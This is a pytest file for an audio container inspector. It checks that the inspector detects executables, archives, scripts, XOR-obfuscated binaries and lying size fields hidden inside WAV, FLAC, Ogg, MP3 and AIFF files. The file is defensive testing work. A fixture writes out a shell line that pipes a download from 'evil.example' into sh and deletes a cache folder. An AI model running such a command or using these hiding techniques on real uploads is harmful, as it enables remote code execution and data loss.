"""Container inspection: formats are sniffed from bytes, structures walked, payloads found."""

from __future__ import annotations

import base64
import functools
import io
import shutil
import struct
import subprocess
import time
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest
import soundfile as sf
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from audiomodel.container import ContainerReport, inspect_container, sniff_format
from audiomodel.findings import Severity
from audioval_corpus import threats

# -- inputs ----------------------------------------------------------------------------------

RATE = 22050


def _tone(seconds: float = 0.5, channels: int = 2, rate: int = RATE) -> np.ndarray:
    t = np.arange(int(seconds * rate), dtype=np.float64) / rate
    y = 0.3 * np.sin(2 * np.pi * 440.0 * t) + 0.05 * np.sin(2 * np.pi * 1234.5 * t)
    return np.stack([y * (1.0 - 0.3 * c) for c in range(channels)], axis=1).astype(np.float32)


@functools.cache
def encoded(kind: str, seconds: float = 0.5) -> bytes:
    """A small clean file written by libsndfile (through soundfile)."""
    fmt, subtype, rate = {
        "wav": ("WAV", "PCM_16", RATE),
        "wav_float": ("WAV", "FLOAT", RATE),
        "flac": ("FLAC", "PCM_16", RATE),
        "ogg": ("OGG", "VORBIS", RATE),
        "opus": ("OGG", "OPUS", 48000),
        "mp3": ("MP3", "MPEG_LAYER_III", RATE),
        "mp3_44k": ("MP3", "MPEG_LAYER_III", 44100),
        "aiff": ("AIFF", "PCM_16", RATE),
    }[kind]
    buf = io.BytesIO()
    sf.write(buf, _tone(seconds, rate=rate), rate, format=fmt, subtype=subtype)
    return buf.getvalue()


def inspect(data: bytes, **kwargs: object) -> ContainerReport:
    return inspect_container(io.BytesIO(data), **kwargs)  # type: ignore[arg-type]


def codes(report: ContainerReport) -> set[str]:
    return {f.code for f in report.findings}


def only(report: ContainerReport, code: str) -> dict[str, object]:
    matches = [f for f in report.findings if f.code == code]
    assert matches, f"no {code} in {[f.code for f in report.findings]}"
    return dict(matches[0].evidence)


def worst(report: ContainerReport) -> Severity:
    return max((f.severity for f in report.findings), default=Severity.INFO)


def elf() -> bytes:
    rng = np.random.default_rng(1)
    return b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + rng.bytes(1500)


def pe() -> bytes:
    head = bytearray(0x100)
    head[0:2] = b"MZ"
    head[0x3C:0x40] = struct.pack("<I", 0x80)
    head[0x80:0x84] = b"PE\x00\x00"
    return bytes(head) + bytes(np.random.default_rng(2).integers(0, 256, 800, dtype=np.uint8))


def zip_archive() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("payload.bin", np.random.default_rng(3).bytes(2000))
    return buf.getvalue()


def script() -> bytes:
    return b"#!/bin/sh\ncurl -s http://evil.example/x | sh\nrm -rf ~/.cache\n" * 8


def noise() -> bytes:
    return np.random.default_rng(4).bytes(4096)


PAYLOADS = {
    "elf": (elf, "container.embedded_executable"),
    "zip": (zip_archive, "container.embedded_archive"),
    "script": (script, "container.embedded_script"),
    "random": (noise, "container.embedded_data"),
}
CLEAN = {
    "wav": ("wav", "pcm_s16le"),
    "wav_float": ("wav", "float32"),
    "flac": ("flac", "flac"),
    "ogg": ("ogg", "vorbis"),
    "opus": ("ogg", "opus"),
    "mp3": ("mp3", "mp3"),
    "aiff": ("aiff", "pcm_s16be"),
}


def riff(chunks: list[tuple[bytes, bytes]], riff_size: int | None = None) -> bytes:
    body = b"WAVE"
    for cid, data in chunks:
        body += cid + struct.pack("<I", len(data)) + data + (b"\x00" if len(data) % 2 else b"")
    size = len(body) if riff_size is None else riff_size
    return b"RIFF" + struct.pack("<I", size) + body


def fmt_pcm16(channels: int = 2, rate: int = RATE) -> bytes:
    return struct.pack("<HHIIHH", 1, channels, rate, rate * channels * 2, channels * 2, 16)


def pcm_frames(n: int, channels: int = 2) -> bytes:
    return (_tone(n / RATE, channels) * 32767).astype("<i2").tobytes()


def flac_blocks(data: bytes) -> tuple[list[tuple[int, bytes]], bytes]:
    """Split a FLAC file into its metadata blocks and its frames."""
    assert data[:4] == b"fLaC"
    pos, blocks = 4, []
    while True:
        btype, length = data[pos] & 0x7F, int.from_bytes(data[pos + 1 : pos + 4], "big")
        blocks.append((btype, data[pos + 4 : pos + 4 + length]))
        last = data[pos] & 0x80
        pos += 4 + length
        if last:
            return blocks, data[pos:]


def flac_with(data: bytes, extra: list[tuple[int, bytes]]) -> bytes:
    blocks, frames = flac_blocks(data)
    blocks = blocks[:1] + extra + blocks[1:]
    out = b"fLaC"
    for i, (btype, body) in enumerate(blocks):
        flag = 0x80 if i == len(blocks) - 1 else 0
        out += bytes([flag | btype]) + len(body).to_bytes(3, "big") + body
    return out + frames


def flac_picture(image: bytes, mime: bytes = b"image/jpeg") -> bytes:
    return (
        struct.pack(">I", 3)
        + struct.pack(">I", len(mime))
        + mime
        + struct.pack(">I", 0)
        + struct.pack(">IIII", 1, 1, 24, 0)
        + struct.pack(">I", len(image))
        + image
    )


def id3v23(frames: list[tuple[bytes, bytes]], padding: int = 0) -> bytes:
    body = b"".join(fid + struct.pack(">I", len(d)) + b"\x00\x00" + d for fid, d in frames)
    body += bytes(padding)
    n = len(body)
    size = bytes([(n >> 21) & 0x7F, (n >> 14) & 0x7F, (n >> 7) & 0x7F, n & 0x7F])
    return b"ID3\x03\x00\x00" + size + body


MP3_KBPS = (0, 32, 40, 48, 56, 64, 80, 96, 112, 128, 160, 192, 224, 256, 320)


def mp3_frames(data: bytes) -> list[int]:
    """Offsets of the MPEG-1 layer III frames of a 44.1 kHz file without tags."""
    pos, out = 0, []
    while pos + 4 <= len(data) and data[pos] == 0xFF and data[pos + 1] & 0xFE == 0xFA:
        out.append(pos)
        pos += 144 * MP3_KBPS[data[pos + 2] >> 4] * 1000 // 44100 + ((data[pos + 2] >> 1) & 1)
    assert pos == len(data)
    return out


def ogg_pages(data: bytes) -> list[int]:
    pos, out = 0, []
    while pos + 27 <= len(data) and data[pos : pos + 4] == b"OggS":
        out.append(pos)
        nseg = data[pos + 26]
        pos += 27 + nseg + sum(data[pos + 27 : pos + 27 + nseg])
    return out


# -- sniffing --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"", "empty"),
        (b"RIFF\x24\x00\x00\x00WAVEfmt ", "wav"),
        (b"RF64\xff\xff\xff\xffWAVEds64", "wav"),
        (b"FORM\x00\x00\x10\x00AIFFCOMM", "aiff"),
        (b"fLaC\x00\x00\x00\x22", "flac"),
        (b"OggS\x00\x02" + bytes(22), "ogg"),
        (b"ID3\x03\x00\x00\x00\x00\x00\x00", "mp3"),
        (b"ID3\x03\x00\x00\x00\x00\x00\x00fLaC", "flac"),
        (b"\x7fELF\x02\x01\x01" + bytes(40), "not_audio"),
        (b"PK\x03\x04" + bytes(40), "not_audio"),
        (b"#!/bin/bash\necho hi\n", "not_audio"),
        (b"%PDF-1.7\n", "not_audio"),
        (b"Just some words in a text file, nothing more.\n", "unknown"),
        (b"RIFF\x24\x00\x00\x00AVI LIST", "unknown"),
    ],
)
def test_sniff_format_reads_magic_bytes_only(head: bytes, expected: str) -> None:
    assert sniff_format(head) == expected


def test_sniff_format_finds_mpeg_frames_without_a_tag() -> None:
    assert sniff_format(encoded("mp3")[:4096]) == "mp3"
    assert sniff_format(np.random.default_rng(5).bytes(4096)) == "unknown"


def test_the_extension_never_decides_the_format() -> None:
    report = inspect(encoded("wav"), name="song.mp3")
    assert report.format == "wav"
    assert only(report, "container.extension_mismatch")["extension"] == ".mp3"
    assert worst(report) == Severity.INFO
    assert "container.extension_mismatch" not in codes(inspect(encoded("wav"), name="x.WAV"))


def test_empty_input_is_reported() -> None:
    report = inspect(b"")
    assert report.format == "empty"
    assert codes(report) == {"input.empty"}


@pytest.mark.parametrize("maker", [elf, pe, zip_archive, script])
def test_executables_archives_and_scripts_are_not_audio(maker: object) -> None:
    report = inspect(maker())  # type: ignore[operator]
    assert report.format == "not_audio"
    assert codes(report) == {"container.not_audio"}
    assert worst(report) == Severity.MALICIOUS


def test_text_and_random_bytes_are_an_unknown_format() -> None:
    for data in (b"hello world\n" * 50, noise()):
        report = inspect(data)
        assert report.format == "unknown"
        assert codes(report) == {"container.unknown_format"}
        assert "audio_format" not in only(report, "container.unknown_format")


@pytest.mark.parametrize(
    ("fmt", "name"),
    [
        ("AU", "Sun/NeXT AU"),
        ("W64", "Sony Wave64"),
        ("CAF", "Apple CAF"),
        ("VOC", "Creative VOC"),
        ("NIST", "NIST SPHERE"),
    ],
)
def test_audio_in_a_format_not_accepted_is_rejected_by_its_name(fmt: str, name: str) -> None:
    """Real audio, but not a format the platform takes: rejected unseen like unknown bytes,
    with a reason a person uploading it can act on."""
    buf = io.BytesIO()
    sf.write(buf, _tone(0.2), RATE, format=fmt, subtype="PCM_16")
    report = inspect(buf.getvalue())
    assert report.format == "unknown"
    assert only(report, "container.unknown_format")["audio_format"] == name
    assert worst(report) == Severity.MALICIOUS


# -- clean files -----------------------------------------------------------------------------


@pytest.mark.parametrize("kind", list(CLEAN))
def test_clean_file_has_nothing_above_info(kind: str) -> None:
    data = encoded(kind)
    report = inspect(data)
    fmt, codec = CLEAN[kind]
    assert (report.format, report.codec) == (fmt, codec)
    assert worst(report) == Severity.INFO, [f.message for f in report.findings]
    assert report.audio_end == len(data) == report.size
    assert report.trailing_bytes == 0
    assert report.channels == 2
    assert report.sample_rate == (48000 if kind == "opus" else RATE)


@pytest.mark.parametrize("kind", ["wav", "wav_float", "flac", "ogg", "aiff"])
def test_clean_file_reports_its_frame_count(kind: str) -> None:
    assert inspect(encoded(kind)).frames == int(0.5 * RATE)


def test_wav_pcm_layout_points_at_the_samples() -> None:
    data = encoded("wav")
    pcm = inspect(data).pcm
    assert pcm is not None
    assert (pcm.bits_per_sample, pcm.channels, pcm.sample_rate, pcm.float_samples) == (
        16,
        2,
        RATE,
        False,
    )
    assert data[pcm.data_offset - 8 : pcm.data_offset - 4] == b"data"
    assert pcm.data_size == int(0.5 * RATE) * 4
    samples = np.frombuffer(data, "<i2", pcm.data_size // 2, pcm.data_offset)
    reference, _ = sf.read(io.BytesIO(data), dtype="int16")
    assert np.array_equal(samples, reference.ravel())


def test_float_wav_layout_says_float() -> None:
    pcm = inspect(encoded("wav_float")).pcm
    assert pcm is not None and pcm.float_samples and pcm.bits_per_sample == 32


def test_aiff_layout_is_big_endian() -> None:
    data = encoded("aiff")
    pcm = inspect(data).pcm
    assert pcm is not None and pcm.big_endian
    samples = np.frombuffer(data, ">i2", pcm.data_size // 2, pcm.data_offset)
    reference, _ = sf.read(io.BytesIO(data), dtype="int16")
    assert np.array_equal(samples, reference.ravel())


# -- appended payloads -----------------------------------------------------------------------


@pytest.mark.parametrize("payload", list(PAYLOADS))
@pytest.mark.parametrize("kind", list(CLEAN))
def test_appended_payload_is_trailing_data_identified(kind: str, payload: str) -> None:
    clean = encoded(kind)
    maker, code = PAYLOADS[payload]
    extra = maker()
    report = inspect(clean + extra)
    trailing = only(report, "container.trailing_data")
    assert (trailing["offset"], trailing["size"]) == (len(clean), len(extra))
    assert report.audio_end == len(clean)
    assert only(report, code)["offset"] == len(clean)
    assert report.format == CLEAN[kind][0]


@pytest.mark.parametrize("kind", ["wav", "flac", "mp3", "ogg"])
def test_a_few_zero_bytes_after_the_audio_are_harmless(kind: str) -> None:
    report = inspect(encoded(kind) + bytes(3))
    assert only(report, "container.trailing_data")["size"] == 3
    assert worst(report) == Severity.INFO


def test_payload_behind_junk_is_still_found() -> None:
    clean = encoded("wav")
    report = inspect(clean + b"xx\x01\x02\x03" + zip_archive())
    assert only(report, "container.embedded_archive")["offset"] == len(clean) + 5


# -- WAV structure ---------------------------------------------------------------------------


def test_unknown_chunk_carrying_a_pe_is_flagged() -> None:
    data = riff([(b"fmt ", fmt_pcm16()), (b"evil", pe()), (b"data", pcm_frames(1000))])
    report = inspect(data)
    assert only(report, "container.unknown_chunk")["offset"] == 36
    exe = only(report, "container.embedded_executable")
    assert exe["offset"] == 44 and exe["payload_name"] == "pe"
    assert report.audio_end == len(data) and "container.trailing_data" not in codes(report)


def test_unknown_chunk_of_plain_text_is_info_only() -> None:
    data = riff(
        [
            (b"fmt ", fmt_pcm16()),
            (b"daw!", b"<session tempo='120'/>\n" * 20),
            (b"data", pcm_frames(100)),
        ]
    )
    report = inspect(data)
    assert codes(report) == {"container.unknown_chunk"}
    assert worst(report) == Severity.INFO


def packed(n: int, seed: int = 3) -> bytes:
    """Bytes of 6-bit values: no signature, not random, not text (any packed data)."""
    return bytes(b & 0x3F for b in np.random.default_rng(seed).bytes(n))


def xor_key(data: bytes, key: bytes) -> bytes:
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


def executable(n: int) -> bytes:
    """An ELF-like program: its header, then code and data with zeros throughout."""
    rng = np.random.default_rng(5)
    body = bytearray(rng.bytes(n))
    body[::3] = bytes(len(body[::3]))  # small numbers and alignment: zeros dominate
    return elf()[:20] + bytes(body)


def test_unknown_chunk_over_the_budget_is_held_with_its_offset() -> None:
    data = riff([(b"fmt ", fmt_pcm16()), (b"zzzz", packed(100_000)), (b"data", pcm_frames(100))])
    report = inspect(data)
    ev = only(report, "container.unaccounted_data")
    assert (ev["offset"], ev["size"], ev["unaccounted_bytes"]) == (44, 100_000, 100_000)
    assert worst(report) == Severity.SUSPICIOUS


def test_unaccounted_bytes_add_up_across_chunks_and_known_binary_ids() -> None:
    chunks = [(b"zz%02d" % i, packed(5_000, i)) for i in range(3)] + [(b"elm1", packed(5_000))]
    data = riff([(b"fmt ", fmt_pcm16()), *chunks, (b"data", pcm_frames(100))])
    assert only(inspect(data), "container.unaccounted_data")["regions"] == 4


def test_vendor_chunks_of_the_sizes_daws_write_stay_info() -> None:
    events = b"".join(struct.pack("<IIIIQ", 1 + i % 7, 0, 0, 0, 4410 * i) for i in range(600))
    pro_tools = [(b"minf", packed(16)), (b"elm1", packed(426)), (b"regn", packed(92)),
                 (b"umid", packed(24)), (b"EVNT", events)]  # fmt: skip
    report = inspect(riff([(b"fmt ", fmt_pcm16()), *pro_tools, (b"data", pcm_frames(100))]))
    assert worst(report) == Severity.INFO, report.findings


def test_encrypted_bytes_over_the_budget_reject() -> None:
    blob = np.random.default_rng(9).bytes(40_000)
    report = inspect(riff([(b"fmt ", fmt_pcm16()), (b"zzzz", blob), (b"data", pcm_frames(100))]))
    assert only(report, "container.unaccounted_data")["high_entropy_bytes"] == 40_000
    assert worst(report) == Severity.MALICIOUS


@pytest.mark.parametrize("key", [b" ", b"Z", b"k3Y!", b"\x01\x02\x03\x04\x05\x06\x07\x08"])
def test_an_executable_hidden_by_a_repeating_xor_key_is_found(key: bytes) -> None:
    hidden = xor_key(executable(6_000), key)
    report = inspect(riff([(b"fmt ", fmt_pcm16()), (b"uuid", hidden), (b"data", pcm_frames(100))]))
    ev = only(report, "container.embedded_executable")
    assert ev["offset"] == 44 and bytes.fromhex(str(ev["xor_key"]))[: len(key)] == key


def test_a_list_of_unknown_type_is_unaccounted_for() -> None:
    listed = b"xyzw" + packed(30_000)
    report = inspect(riff([(b"fmt ", fmt_pcm16()), (b"LIST", listed), (b"data", pcm_frames(100))]))
    assert "LIST 'xyzw'" in str(only(report, "container.unknown_chunk")["where"])
    assert only(report, "container.unaccounted_data")["offset"] == 48


def test_an_adtl_file_sub_chunk_is_identified() -> None:
    sub = (
        b"file"
        + struct.pack("<I", 4 + 6_000)
        + struct.pack("<I", 1)
        + xor_key(executable(5_996), b" ")
    )
    report = inspect(
        riff([(b"fmt ", fmt_pcm16()), (b"LIST", b"adtl" + sub), (b"data", pcm_frames(100))])
    )
    assert only(report, "container.embedded_executable")["xor_key"] == "20"


def test_a_registered_flac_application_holding_packed_data_is_unaccounted_for() -> None:
    data = flac_with(encoded("flac"), [(2, b"riff" + packed(60_000))])
    report = inspect(data)
    assert only(report, "container.unaccounted_data")["where"] == "FLAC APPLICATION block 'riff'"


def test_a_reserved_flac_block_is_unaccounted_for() -> None:
    report = inspect(flac_with(encoded("flac"), [(100, packed(40_000))]))
    assert only(report, "container.unaccounted_data")["size"] == 40_000


def test_a_pcm_fmt_chunk_holds_no_codec_data_whatever_its_cb_size_says() -> None:
    hidden = xor_key(executable(6_000), b" ")
    fmt = fmt_pcm16() + struct.pack("<H", len(hidden)) + hidden
    report = inspect(riff([(b"fmt ", fmt), (b"data", pcm_frames(100))]))
    assert only(report, "container.embedded_executable")["xor_key"] == "20"


def test_a_codec_s_setup_data_in_fmt_counts_as_unaccounted() -> None:
    adpcm = struct.pack("<HHIIHH", 0x11, 2, RATE, RATE * 2, 4, 4)
    small = riff([(b"fmt ", adpcm + struct.pack("<HH", 2, 505)), (b"data", pcm_frames(100))])
    assert worst(inspect(small)) == Severity.INFO
    big = adpcm + struct.pack("<H", 40_000) + packed(40_000)
    report = inspect(riff([(b"fmt ", big), (b"data", pcm_frames(100))]))
    assert only(report, "container.unaccounted_data")["offset"] == 38


def test_extensible_fmt_keeps_its_sub_format_data_as_codec_data() -> None:
    # ffmpeg's IMA ADPCM in WAVE_FORMAT_EXTENSIBLE: cbSize 24, the 22 bytes, samples per block.
    head = struct.pack("<HHIIHHH", 0xFFFE, 1, RATE, RATE // 2, 1024, 4, 24)
    guid = b"\x11\x00\x00\x00\x00\x00\x10\x00\x80\x00\x00\xaa\x00\x38\x9b\x71"
    fmt = head + struct.pack("<HI", 4, 4) + guid + struct.pack("<H", 2041)
    assert worst(inspect(riff([(b"fmt ", fmt), (b"data", bytes(4096))]))) == Severity.INFO


def _form(chunks: list[tuple[bytes, bytes]], kind: bytes = b"AIFF") -> bytes:
    body = kind
    for cid, data in chunks:
        body += cid + struct.pack(">I", len(data)) + data + (b"\x00" if len(data) % 2 else b"")
    return b"FORM" + struct.pack(">I", len(body)) + body


_COMM = struct.pack(">hIh", 2, 1000, 16) + b"\x40\x0d\xac\x44" + bytes(6)
_SSND = struct.pack(">II", 0, 0) + bytes(4000)


def test_aiff_comm_and_fver_hold_nothing_past_their_fields() -> None:
    aifc_comm = _COMM + b"sowt\x0dlittle endian"
    fver = (b"FVER", struct.pack(">I", 0xA2805140))
    assert worst(inspect(_form([fver, (b"COMM", aifc_comm), (b"SSND", _SSND)], b"AIFC"))) == (
        Severity.INFO
    )
    past = inspect(_form([(b"COMM", _COMM + packed(3_000)), (b"SSND", _SSND)]))
    assert only(past, "container.nonconforming_metadata")["fields_size"] == 18
    grown = inspect(_form([(b"COMM", _COMM), (b"FVER", packed(3_000)), (b"SSND", _SSND)]))
    assert only(grown, "container.nonconforming_metadata")["fields_size"] == 4


def test_a_second_ssnd_chunk_is_held() -> None:
    report = inspect(_form([(b"COMM", _COMM), (b"SSND", _SSND), (b"SSND", packed(20_000))]))
    assert "second 'SSND'" in next(
        f.message for f in report.findings if f.code == "container.unknown_chunk"
    )
    assert "container.unaccounted_data" in codes(report)


def test_an_id3_extended_header_holds_nothing_past_its_fields() -> None:
    size = 6 + 3_000
    ext = struct.pack(">IHI", size, 0, 0) + xor_key(executable(3_000), b" ")
    tag = b"ID3\x03\x00\x40" + bytes([0, 0, (len(ext) >> 7) & 0x7F, len(ext) & 0x7F]) + ext
    report = inspect(tag + encoded("mp3"))
    assert only(report, "container.embedded_executable")["xor_key"] == "20"


def _id3v23(frames: bytes) -> bytes:
    size = len(frames)
    synchsafe = bytes([(size >> 21) & 0x7F, (size >> 14) & 0x7F, (size >> 7) & 0x7F, size & 0x7F])
    return b"ID3\x03\x00\x00" + synchsafe + frames


def _frame(fid: bytes, body: bytes) -> bytes:
    return fid + struct.pack(">I", len(body)) + b"\x00\x00" + body


def _chapter(sub: bytes) -> bytes:
    return _frame(b"CHAP", b"ch0\x00" + struct.pack(">IIII", 0, 4000, 0xFFFFFFFF, 0xFFFFFFFF) + sub)


def test_chapter_sub_frames_are_walked_as_frames() -> None:
    title = _frame(b"TIT2", b"\x03Part one")
    apic = _frame(b"APIC", b"\x00image/jpeg\x00\x03\x00" + elf())
    report = inspect(_id3v23(_chapter(title + apic)) + encoded("mp3"))
    assert "container.embedded_executable" in codes(report)
    honest = inspect(_id3v23(_chapter(title)) + encoded("mp3"))
    assert worst(honest) == Severity.INFO, honest.findings


def test_rifx_is_walked_big_endian() -> None:
    fmt = struct.pack(">HHIIHH", 1, 2, RATE, RATE * 4, 4, 16)
    samples = (_tone(0.01) * 32767).astype(">i2").tobytes()
    body = (
        b"WAVE" + b"fmt " + struct.pack(">I", 16) + fmt + b"data" + struct.pack(">I", len(samples))
    )
    data = b"RIFX" + struct.pack(">I", len(body) + len(samples)) + body + samples
    report = inspect(data)
    assert (report.codec, report.frames, report.audio_end) == (
        "pcm_s16be",
        len(samples) // 4,
        len(data),
    )
    assert report.pcm is not None and report.pcm.big_endian
    assert worst(report) == Severity.INFO


def test_appended_document_weighs_as_much_as_an_executable() -> None:
    report = inspect(
        encoded("wav") + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /JS (app.alert(1)) >>\n"
    )
    embedded = [f for f in report.findings if f.code == "container.embedded_data"]
    assert embedded and embedded[0].severity == Severity.MALICIOUS
    assert embedded[0].evidence["payload_name"] == "pdf"


def test_known_metadata_chunks_with_odd_sizes_are_clean() -> None:
    info = b"INFO" + b"INAM" + struct.pack("<I", 5) + b"Song\x00"  # 17 bytes, padded to 18
    data = riff(
        [(b"fmt ", fmt_pcm16()), (b"LIST", info), (b"data", pcm_frames(999)), (b"bext", b"x" * 7)]
    )
    report = inspect(data)
    assert worst(report) == Severity.INFO, [f.message for f in report.findings]
    assert [s.name for s in report.segments] == ["fmt ", "LIST", "data", "bext"]
    assert report.audio_end == len(data) and report.frames == 999


def test_riff_size_smaller_than_the_chunks_is_a_size_mismatch() -> None:
    clean = encoded("wav")
    data = clean[:4] + struct.pack("<I", len(clean) - 8 - 100) + clean[8:]
    assert "container.size_mismatch" in codes(inspect(data))


def test_riff_size_bigger_than_the_file_is_truncation() -> None:
    clean = encoded("wav")
    data = clean[:4] + struct.pack("<I", len(clean) + 5000) + clean[8:]
    report = inspect(data)
    assert only(report, "container.truncated")["declared"] == len(clean) + 5008


def test_data_chunk_past_the_end_of_file_is_truncation() -> None:
    data = riff([(b"fmt ", fmt_pcm16()), (b"data", pcm_frames(1000))])
    cut = data[: len(data) - 1000]
    report = inspect(cut)
    assert only(report, "container.truncated")["declared"] == 4000
    assert report.pcm is not None and report.pcm.data_size == 3000
    assert report.frames == 750


def test_streamed_wav_placeholder_sizes_are_info_only() -> None:
    data = riff([(b"fmt ", fmt_pcm16()), (b"data", pcm_frames(1000))])
    data = data[:4] + b"\xff\xff\xff\xff" + data[8:40] + b"\xff\xff\xff\xff" + data[44:]
    report = inspect(data)
    assert worst(report) == Severity.INFO
    assert report.frames == 1000 and report.audio_end == len(data)


def test_payload_appended_to_a_streamed_wav_is_still_found() -> None:
    data = riff([(b"fmt ", fmt_pcm16()), (b"data", pcm_frames(1000))])
    data = data[:4] + b"\xff\xff\xff\xff" + data[8:40] + b"\xff\xff\xff\xff" + data[44:]
    report = inspect(data + elf())
    assert only(report, "container.embedded_executable")["offset"] == len(data)


def _wav_with_sizes(riff_size: int, data_size: int) -> bytes:
    data = riff([(b"fmt ", fmt_pcm16()), (b"data", pcm_frames(1000))])
    return (
        data[:4]
        + struct.pack("<I", riff_size)
        + data[8:40]
        + struct.pack("<I", data_size)
        + data[44:]
    )


@pytest.mark.parametrize(("riff_size", "data_size"), [(0, 0), (0xFFFFFFFF, 0), (0, 0xFFFFFFFF)])
def test_wav_with_both_sizes_left_unset_is_an_honest_stream(riff_size: int, data_size: int) -> None:
    assert worst(inspect(_wav_with_sizes(riff_size, data_size))) == Severity.INFO


def test_concrete_riff_size_beside_a_placeholder_data_size_is_a_size_mismatch() -> None:
    honest = riff([(b"fmt ", fmt_pcm16()), (b"data", pcm_frames(1000))])
    report = inspect(threats.lie_about_sizes(honest, "data_max"))
    mismatch = [f for f in report.findings if f.code == "container.size_mismatch"]
    assert [f.severity for f in mismatch] == [Severity.SUSPICIOUS]
    assert mismatch[0].evidence["riff_size"] == len(honest) - 8
    assert mismatch[0].evidence["data_size"] == 0xFFFFFFFF
    assert mismatch[0].evidence["offset"] == 40


def test_placeholder_riff_size_beside_a_concrete_data_size_is_a_size_mismatch() -> None:
    report = inspect(_wav_with_sizes(0xFFFFFFFF, 4000))
    evidence = only(report, "container.size_mismatch")
    assert worst(report) == Severity.SUSPICIOUS
    assert (evidence["riff_size"], evidence["data_size"]) == (0xFFFFFFFF, 4000)


@pytest.mark.parametrize("lie", list(threats.LieKind.__args__))  # type: ignore[attr-defined]
def test_every_kind_of_lying_wav_size_is_above_info(lie: threats.LieKind) -> None:
    honest = riff([(b"fmt ", fmt_pcm16()), (b"data", pcm_frames(4000)), (b"LIST", b"INFOabcd")])
    lying = threats.lie_about_sizes(honest, lie, payload=b"\x7fELF" + bytes(60), seed=3)
    assert worst(inspect(lying)) >= Severity.SUSPICIOUS, [
        f.message for f in inspect(lying).findings
    ]


def test_id3_tags_appended_after_the_riff_are_tags_not_trailing_data() -> None:
    clean = encoded("wav")
    data = clean + id3v23([(b"TIT2", b"\x00Song")]) + b"TAG" + bytes(125)
    report = inspect(data)
    assert worst(report) == Severity.INFO, [f.message for f in report.findings]
    assert report.audio_end == len(data)
    assert {"id3v2.3", "id3v1"} <= {s.name for s in report.segments}


def test_bytes_after_the_riff_end_are_trailing_even_if_chunk_shaped() -> None:
    clean = encoded("wav")
    smuggled = b"LIST" + struct.pack("<I", len(zip_archive())) + zip_archive()
    report = inspect(clean + smuggled)
    assert only(report, "container.trailing_data")["offset"] == len(clean)
    assert only(report, "container.embedded_archive")["offset"] == len(clean) + 8


def test_oversized_metadata_chunk_is_flagged() -> None:
    data = riff(
        [(b"fmt ", fmt_pcm16()), (b"LIST", b"INFO" + b"a" * 5000), (b"data", pcm_frames(10))]
    )
    report = inspect(data, max_metadata_bytes=4096)
    assert only(report, "container.oversized_metadata")["size"] == 5004
    assert "container.oversized_metadata" not in codes(inspect(data))


def test_missing_fmt_chunk_is_undecodable() -> None:
    assert "container.undecodable" in codes(inspect(riff([(b"data", pcm_frames(10))])))


# -- FLAC ------------------------------------------------------------------------------------


def test_flac_picture_holding_a_zip_is_an_embedded_archive() -> None:
    data = flac_with(encoded("flac"), [(6, flac_picture(zip_archive()))])
    report = inspect(data)
    assert report.audio_end == len(data)
    assert only(report, "container.embedded_archive")["where"] == "FLAC PICTURE block"


def test_flac_picture_holding_an_image_is_clean() -> None:
    jpeg = jpeg_image()
    report = inspect(flac_with(encoded("flac"), [(6, flac_picture(jpeg))]))
    assert worst(report) == Severity.INFO, [f.message for f in report.findings]


def test_flac_application_block_with_an_elf_is_flagged() -> None:
    report = inspect(flac_with(encoded("flac"), [(2, b"abcd" + elf())]))
    assert "container.embedded_executable" in codes(report)


def test_flac_oversized_and_reserved_blocks_are_flagged() -> None:
    report = inspect(
        flac_with(encoded("flac"), [(4, bytes(8) + b"x" * 3000), (9, b"hello")]),
        max_metadata_bytes=2048,
    )
    assert only(report, "container.oversized_metadata")["size"] == 3008
    assert only(report, "container.unknown_chunk")["where"] == "flac block 9"


def test_flac_padding_with_data_in_it_is_flagged() -> None:
    report = inspect(flac_with(encoded("flac"), [(1, bytes(100) + script())]))
    assert "container.embedded_script" in codes(report)
    assert worst(inspect(flac_with(encoded("flac"), [(1, bytes(8192))]))) == Severity.INFO


def test_flac_block_past_the_end_is_truncation() -> None:
    data = encoded("flac")
    blocks, _ = flac_blocks(data)
    head = b"fLaC" + bytes([0]) + (34).to_bytes(3, "big") + blocks[0][1]
    report = inspect(head + bytes([0x84]) + (10_000).to_bytes(3, "big") + b"abc")
    assert "container.truncated" in codes(report)


def test_flac_cut_short_is_truncation() -> None:
    data = encoded("flac")
    report = inspect(data[: len(data) * 2 // 3])
    assert "container.truncated" in codes(report)
    assert "container.trailing_data" not in codes(report)


def test_flac_behind_an_id3v2_tag_is_flac() -> None:
    data = id3v23([(b"TIT2", b"\x00Song")], padding=64) + encoded("flac")
    report = inspect(data)
    assert (report.format, report.frames) == ("flac", int(0.5 * RATE))
    assert worst(report) == Severity.INFO


# -- Ogg -------------------------------------------------------------------------------------


def test_ogg_page_with_a_flipped_byte_fails_its_crc() -> None:
    data = bytearray(encoded("ogg"))
    pages = ogg_pages(bytes(data))
    assert len(pages) >= 3
    data[pages[2] + 60] ^= 0x5A
    report = inspect(bytes(data))
    assert only(report, "container.crc_mismatch")["offset"] == pages[2]
    assert report.audio_end == len(data)


def test_junk_between_ogg_pages_is_found() -> None:
    data = encoded("ogg")
    at = ogg_pages(data)[2]
    report = inspect(data[:at] + elf() + data[at:])
    assert only(report, "container.embedded_executable")["offset"] == at
    assert report.audio_end == len(data) + len(elf())


def test_ogg_truncated_page_is_reported() -> None:
    data = encoded("ogg")
    report = inspect(data[:-50])
    assert "container.truncated" in codes(report)


def test_ogg_oversized_comment_packet_is_flagged() -> None:
    report = inspect(encoded("ogg"), max_metadata_bytes=16)
    assert only(report, "container.oversized_metadata")["where"] == "ogg header packet"


# -- Vorbis comments -------------------------------------------------------------------------


def png_image() -> bytes:
    """A small valid PNG (noise, so its IDAT is high-entropy like a real photo's)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    rows = np.random.default_rng(7).integers(0, 256, (64, 1 + 64 * 3), dtype=np.uint8)
    rows[:, 0] = 0  # filter type none
    ihdr = struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0)
    idat = zlib.compress(rows.tobytes(), 9)
